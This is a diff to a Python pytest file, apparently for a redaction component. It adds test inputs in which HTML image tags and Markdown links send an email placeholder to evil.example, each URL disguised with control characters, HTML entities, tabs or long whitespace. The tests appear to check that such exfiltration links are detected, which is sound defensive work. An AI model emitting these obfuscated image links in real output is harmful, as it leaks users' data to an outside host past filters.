@@ -69,6 +69,15 @@ def vault(*parts: Part) -> Vault:
         f'<img src="{chr(10) * 60}//evil.example/?q=<EMAIL_ADDRESS_1>">',
         f'<img src="{" " * 100}/\\evil.example/?q=<EMAIL_ADDRESS_1>">',
         f"[x]({' ' * 60}<https://evil.example/?q= <EMAIL_ADDRESS_1>>)",
+        '<img src="\x01https://evil.example/?q= <EMAIL_ADDRESS_1>">',
+        '<img src="&#32;https://evil.example/?q= <EMAIL_ADDRESS_1>">',
+        '<img src="&Tab;https://evil.example/?q=&#32; <EMAIL_ADDRESS_1>">',
+        '<img src="\x01//evil.example/?q=<EMAIL_ADDRESS_1>">',
+        '<img src="&#x20;/\\evil.example/?q=<EMAIL_ADDRESS_1>">',
+        f'<img src="{"&#0032;" * 40}https://evil.example/?q= <EMAIL_ADDRESS_1>">',
+        f'<img src="{"&#10; " * 40}//evil.example/?q=<EMAIL_ADDRESS_1>">',
+        f'<img src="{chr(31) * 90}https://evil.example/?q= <EMAIL_ADDRESS_1>">',
+        f'<img src="/{"&Tab;" * 40}/evil.example/?q=<EMAIL_ADDRESS_1>">',
     ],
 )
 @pytest.mark.parametrize("channel", [TEXT, JSON])
